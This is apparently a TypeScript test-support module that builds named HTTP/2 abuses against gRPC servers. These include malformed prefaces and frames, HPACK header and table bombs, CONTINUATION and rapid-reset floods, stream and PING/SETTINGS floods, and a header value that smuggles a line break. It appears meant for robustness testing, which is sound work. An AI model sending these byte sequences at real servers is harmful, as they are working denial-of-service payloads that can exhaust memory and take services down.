// What an attacker may write on a connection for gRPC in place of HTTP/2: 57 abuses, each by its name. Knows bytes, and nothing
// of what a server should do about them.

/** One abuse: what is written, piece by piece; what the server says in return is read or not. */
export interface Abuse {
  readonly name: string;
  readonly pieces: () => Iterable<Uint8Array>;
  /** Default true. */
  readonly isReading?: boolean;
}

/** Numbers of frame types. */
export const TYPE = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  push: 5,
  ping: 6,
  goaway: 7,
  window: 8,
  continuation: 9,
} as const;
const END_STREAM = 1;
const ACK = 1;
const END_HEADERS = 4;
const PADDED = 8;
const PRIORITY = 0x20;
const NONE = Buffer.alloc(0);
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** Bytes before the payload of a frame. */
export const FRAME_HEAD_BYTES = 9;

/** @param length - as the frame claims it; default the payload's own. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array = NONE, length = payload.length): Buffer {
  const head = Buffer.alloc(FRAME_HEAD_BYTES);
  head.writeUIntBE(length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream >>> 0, 5);
  return Buffer.concat([head, payload]);
}

function u32(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * values.length);
  values.forEach((value, index) => bytes.writeUInt32BE(value >>> 0, 4 * index));
  return bytes;
}

function setting(id: number, value: number): Buffer {
  const bytes = Buffer.alloc(6);
  bytes.writeUInt16BE(id, 0);
  bytes.writeUInt32BE(value >>> 0, 2);
  return bytes;
}

/** A length of HPACK with a prefix of seven bits. */
function hpackText(value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1');
  const length: number[] = [Math.min(bytes.length, 127)];
  for (let rest = bytes.length - 127; rest >= 0; rest = Math.floor(rest / 128)) {
    length.push(rest >= 128 ? (rest % 128) + 128 : rest);
    if (rest < 128) break;
  }
  return Buffer.concat([Buffer.from(length), bytes]);
}

/** @param first - 0: not indexed; 0x40: kept in the table of the other side. */
function header(name: string, value: string, first = 0): Buffer {
  return Buffer.concat([Buffer.of(first), hpackText(name), hpackText(value)]);
}

const METHOD = header(':method', 'POST');
const SCHEME = header(':scheme', 'http');
const PATH = header(':path', '/a.stranger/Asks');
const GRPC = header('content-type', 'application/grpc');

/** The headers of an RPC, those of ours among them. */
export function requestOf(path: string, headers: Readonly<Record<string, string>>): Buffer {
  const own = Object.entries(headers).map(([name, value]) => header(name, value));
  return Buffer.concat([METHOD, SCHEME, header(':path', path), GRPC, header('te', 'trailers'), ...own]);
}

const REQUEST = Buffer.concat([METHOD, SCHEME, PATH, header(':authority', 'localhost'), GRPC, header('te', 'trailers')]);
/** Preface and first frame. */
export const GREETING = Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0)]);

function* many(count: number, make: (index: number) => Uint8Array): Generator<Uint8Array> {
  yield GREETING;
  // Together, or each would cost the attacker a packet.
  for (let at = 0; at < count; at += 100) {
    yield Buffer.concat(Array.from({ length: Math.min(100, count - at) }, (_, index) => make(at + index)));
  }
}

const raw = (name: string, bytes: Uint8Array): Abuse => ({ name, pieces: () => [bytes] });
const after = (name: string, ...frames: readonly Uint8Array[]): Abuse => ({ name, pieces: () => [GREETING, ...frames] });
const open = (stream: number, block: Uint8Array = REQUEST, flags = END_HEADERS): Buffer => frame(TYPE.headers, flags, stream, block);
const flood = (name: string, count: number, make: (index: number) => Uint8Array): Abuse => ({ name, pieces: () => many(count, make) });
const asked = (name: string, ...headers: readonly Uint8Array[]): Abuse =>
  after(name, open(1, Buffer.concat(headers), END_HEADERS | END_STREAM));

/** All of them. */
export const ABUSES: readonly Abuse[] = [
  raw('HTTP/1.1 in place of a preface', Buffer.from('GET / HTTP/1.1\r\nhost: x\r\n\r\n')),
  raw('a preface of another version', Buffer.from('PRI * HTTP/3.0\r\n\r\nSM\r\n\r\n')),
  raw('half a preface', PREFACE.subarray(0, 10)),
  raw('a TLS handshake', Buffer.from('16030100a5010000a10303', 'hex')),
  raw('zero bytes', Buffer.alloc(4096)),
  raw('a preface and nothing', PREFACE),
  raw('a first frame that is no SETTINGS', Buffer.concat([PREFACE, frame(TYPE.ping, 0, 0, Buffer.alloc(8))])),
  after('two prefaces', PREFACE),
  after('a frame larger than any may be', frame(TYPE.data, 0, 1, NONE, 0xff_ff_ff)),
  after('a frame larger than was agreed', frame(TYPE.data, 0, 1, Buffer.alloc(20_000))),
  after('a frame that never ends', frame(TYPE.headers, END_HEADERS, 1, REQUEST, REQUEST.length + 100)),
  after('a frame of an unknown type', frame(0xfa, 0xff, 7, Buffer.alloc(100))),
  flood('frames of unknown types', 20_000, (index) => frame(0x20 + (index % 200), 0, index)),
  after('DATA on stream 0', frame(TYPE.data, 0, 0, Buffer.alloc(1))),
  after('DATA on a stream that was never opened', frame(TYPE.data, 0, 9, Buffer.alloc(1))),
  after('DATA after the end of a stream', open(1, REQUEST, END_HEADERS | END_STREAM), frame(TYPE.data, 0, 1, Buffer.alloc(10))),
  after('DATA with more padding than payload', open(1), frame(TYPE.data, PADDED, 1, Buffer.of(200, 1))),
  flood('empty DATA without end', 20_000, (index) => (index === 0 ? open(1) : frame(TYPE.data, 0, 1))),
  after('HEADERS on stream 0', open(0)),
  after('HEADERS on an even stream', open(2)),
  after('a stream number that goes back', open(5), open(3)),
  after('HEADERS twice on one stream', open(1), open(1)),
  after('HEADERS with more padding than payload', frame(TYPE.headers, PADDED | END_HEADERS, 1, Buffer.of(250, 0x82))),
  after(
    'HEADERS that depend on themselves',
    frame(TYPE.headers, PRIORITY | END_HEADERS, 1, Buffer.concat([u32(1), Buffer.of(1), REQUEST])),
  ),
  after('HPACK with an index that is nowhere', open(1, Buffer.of(0xff, 0xff, 0xff, 0xff, 0x0f))),
  after('HPACK with a number that never ends', open(1, Buffer.alloc(200, 0xff))),
  after('HPACK with Huffman code that is none', open(1, Buffer.concat([Buffer.of(0, 0x84), Buffer.alloc(4, 0xff), Buffer.of(1, 0x61)]))),
  after('HPACK with a table larger than was agreed', open(1, Buffer.of(0x3f, 0xe1, 0xff, 0x03))),
  after('a header bomb of one megabyte', ...bomb(64, 16_000)),
  after('a header bomb from the table', ...tableBomb()),
  asked('a thousand headers', REQUEST, ...Array.from({ length: 1000 }, (_, index) => header(`x-${String(index)}`, 'v'))),
  asked('a header name in upper case', REQUEST, header('X-Upper', 'v')),
  asked('a header value with a line break', REQUEST, header('x-note', 'a\r\nb: c')),
  asked('a header value with a tab and bytes beyond ASCII', REQUEST, header('x-note', '\tv\u00ff')),
  asked('a header that no HTTP/2 may have', REQUEST, header('connection', 'keep-alive')),
  asked('a pseudo header that is unknown', header(':stranger', '1'), REQUEST),
  asked('a pseudo header behind others', REQUEST, header(':path', '/again')),
  asked('a request without a path', METHOD, SCHEME),
  asked('a path of 16,000 characters', METHOD, SCHEME, header(':path', `/${'p'.repeat(16_000)}`), GRPC),
  asked('a method that nobody knows', header(':method', 'BREW'), SCHEME, PATH, GRPC),
  asked('a deadline that is none', REQUEST, header('grpc-timeout', '99999999999999999999n')),
  asked('a compression that is none', REQUEST, header('grpc-encoding', 'bomb')),
  after('CONTINUATION alone', frame(TYPE.continuation, END_HEADERS, 1, REQUEST)),
  after('another frame between HEADERS and CONTINUATION', open(1, REQUEST, 0), frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  flood('CONTINUATION without end', 20_000, (index) =>
    index === 0 ? open(1, REQUEST, 0) : frame(TYPE.continuation, 0, 1, header('x', 'y')),
  ),
  flood('empty CONTINUATION without end', 20_000, (index) => (index === 0 ? open(1, REQUEST, 0) : frame(TYPE.continuation, 0, 1))),
  flood('rapid reset', 10_000, (index) => Buffer.concat([open(2 * index + 1), frame(TYPE.reset, 0, 2 * index + 1, u32(8))])),
  flood('resets that the server is to make', 5000, (index) =>
    Buffer.concat([open(2 * index + 1), frame(TYPE.window, 0, 2 * index + 1, u32(0))]),
  ),
  flood('more streams than allowed', 10_000, (index) => open(2 * index + 1)),
  after('RST_STREAM of a stream that was never opened', frame(TYPE.reset, 0, 9, u32(8))),
  { ...flood('PING without end and nobody who reads', 50_000, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8, 1))), isReading: false },
  { ...flood('SETTINGS without end and nobody who reads', 50_000, () => frame(TYPE.settings, 0, 0, setting(4, 65_535))), isReading: false },
  after('SETTINGS with a length that is none', frame(TYPE.settings, 0, 0, Buffer.alloc(5))),
  after('SETTINGS that are acknowledged and filled', frame(TYPE.settings, ACK, 0, setting(4, 1))),
  {
    ...flood('a window of 0 on a thousand streams', 1000, (index) =>
      index === 0 ? frame(TYPE.settings, 0, 0, setting(4, 0)) : open(2 * index - 1, REQUEST, END_HEADERS | END_STREAM),
    ),
    isReading: false,
  },
  after('WINDOW_UPDATE beyond every window', frame(TYPE.window, 0, 0, u32(0x7f_ff_ff_ff)), frame(TYPE.window, 0, 0, u32(0x7f_ff_ff_ff))),
  after(
    'GOAWAY, PUSH_PROMISE and a priority of itself',
    frame(TYPE.goaway, 0, 0, u32(0, 0)),
    frame(TYPE.push, END_HEADERS, 1, Buffer.concat([u32(2), REQUEST])),
    frame(TYPE.priority, 0, 3, Buffer.concat([u32(3), Buffer.of(1)])),
  ),
];

/** One request whose headers go on for so many frames. */
function bomb(frames: number, bytes: number): readonly Buffer[] {
  const part = header('x-bomb', 'b'.repeat(bytes));
  const rest = Array.from({ length: frames }, (_, index) => frame(TYPE.continuation, index === frames - 1 ? END_HEADERS : 0, 1, part));
  return [open(1, REQUEST, 0), ...rest];
}

/** A large header kept in the table once, and named by one byte thousands of times. */
function tableBomb(): readonly Buffer[] {
  const kept = header('x-kept', 'k'.repeat(3900), 0x40);
  return [open(1, Buffer.concat([REQUEST, kept]), 0), frame(TYPE.continuation, END_HEADERS, 1, Buffer.alloc(16_000, 0x80 | 62))];
}
